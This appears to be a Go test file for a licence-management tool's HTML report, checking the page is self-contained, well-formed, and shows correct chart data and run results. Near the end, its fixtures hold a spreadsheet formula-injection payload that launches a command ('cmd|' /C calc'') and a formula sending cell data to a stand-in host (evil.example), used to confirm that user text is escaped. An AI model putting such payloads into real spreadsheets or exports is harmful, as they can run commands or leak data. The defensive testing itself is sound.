package insights_test

import (
	"bytes"
	"encoding/xml"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/seatwarden/seatwarden/report"
	"github.com/seatwarden/seatwarden/report/insights"
	"github.com/seatwarden/seatwarden/report/internal/reporttest"
)

// storedReport is the fixture's report with insights built from a history
// store holding a snapshot and the run.
func storedReport(t *testing.T, png bool) *report.Report {
	t.Helper()
	r, err := reporttest.StoredReport(t.Context(), t.TempDir(), png)
	require.NoError(t, err)
	return r
}

// TestHTMLReport checks the page strictly: it is well-formed XML (so any
// HTML parser reads it), self-contained, holds each chart as a valid SVG,
// and shows the numbers the store holds.
func TestHTMLReport(t *testing.T) {
	t.Parallel()
	r := storedReport(t, false)
	var b bytes.Buffer
	require.NoError(t, report.WriteHTML(&b, r))
	page := b.String()

	// Well-formed, element by element; collect what the page refers to.
	dec := xml.NewDecoder(strings.NewReader(page))
	dec.Strict = true
	var svgs, figures int
	var stack []string
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		switch el := tok.(type) {
		case xml.StartElement:
			stack = append(stack, el.Name.Local)
			switch el.Name.Local {
			case "svg":
				svgs++
			case "figure":
				figures++
			case "script", "link", "iframe", "object":
				t.Errorf("the page has a <%s>", el.Name.Local)
			}
			for _, a := range el.Attr {
				if (a.Name.Local == "src" || a.Name.Local == "href") && !strings.HasPrefix(a.Value, "#") {
					t.Errorf("<%s %s=%q> refers outside the page", el.Name.Local, a.Name.Local, a.Value)
				}
			}
		case xml.EndElement:
			require.NotEmpty(t, stack)
			assert.Equal(t, stack[len(stack)-1], el.Name.Local)
			stack = stack[:len(stack)-1]
		}
	}
	assert.Empty(t, stack, "every element is closed")
	assert.False(t, strings.Contains(page, "@import") || strings.Contains(page, "url("), "no external style")

	ids := []string{"levels", "licences", "recency", "simulation"}
	require.Len(t, r.Insights.(*insights.Insights).Charts, len(ids))
	assert.Equal(t, len(ids), svgs, "one <svg> per chart")
	assert.Equal(t, len(ids), figures)
	for i, c := range r.Insights.(*insights.Insights).Charts {
		assert.Equal(t, ids[i], c.ID)
		d := xml.NewDecoder(bytes.NewReader(c.SVG))
		d.Strict = true
		var root string
		texts := 0
		for {
			tok, err := d.Token()
			if err == io.EOF {
				break
			}
			require.NoError(t, err, c.ID)
			if se, ok := tok.(xml.StartElement); ok {
				if root == "" {
					root = se.Name.Space + " " + se.Name.Local
				}
				if se.Name.Local == "text" {
					texts++
				}
			}
		}
		assert.Equal(t, "http://www.w3.org/2000/svg svg", root, c.ID)
		assert.Greater(t, texts, 5, "%s has a title, axis labels and ticks", c.ID)
		assert.Contains(t, page, `id="chart-`+c.ID+`"`)
		assert.False(t, strings.Contains(string(c.SVG), "Liberation Serif"), c.ID)
	}
	levels := string(r.Insights.(*insights.Insights).Charts[0].SVG)
	for _, want := range []string{"Active users by last login", "week", "active users", "recently", "not for a while", "never", "Jan 2026"} {
		assert.True(t, strings.Contains(levels, want), "levels chart lacks %q", want)
	}

	// The store's numbers: the snapshot (811 recently = 700 + 111,
	// 363 not for a while, 56 never) and the run.
	text := textOf(t, page)
	assert.Contains(t, text, "now 811 recently, 363 not for a while, 56 never logged in")
	assert.Contains(t, text, "Run: contractors, inactive-90-days")
	assert.Contains(t, text, "2 applied, 1 stale, 1 failed")
	assert.Regexp(t, regexp.MustCompile(`2 Mar 2026 09:01 UTC\s*contractors, inactive-90-days\s*applied\s*4\s*2\s*1`), text, "the runs table")
	assert.Contains(t, text, "Deactivating or unlicensing these 3 users leaves jira-software in the 2,000-user tier, with 903 seats to spare.")
	assert.Contains(t, text, "read-only directory", "failures are listed")
	assert.Contains(t, text, "@SUM(1+1)*cmd|' /C calc'!A0", "carol's failure")
	assert.True(t, strings.Contains(page, "&#34;http://evil.example/?x=&#34;&amp;A1"), "user text is escaped")
}

// textOf returns the page's text, one space between elements.
func textOf(t *testing.T, page string) string {
	t.Helper()
	dec := xml.NewDecoder(strings.NewReader(page))
	var b strings.Builder
	inStyle := false
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		switch el := tok.(type) {
		case xml.StartElement:
			inStyle = el.Name.Local == "style"
		case xml.EndElement:
			inStyle = false
			b.WriteString(" ")
		case xml.CharData:
			if !inStyle {
				b.Write(el)
			}
		}
	}
	return strings.Join(strings.Fields(b.String()), " ")
}
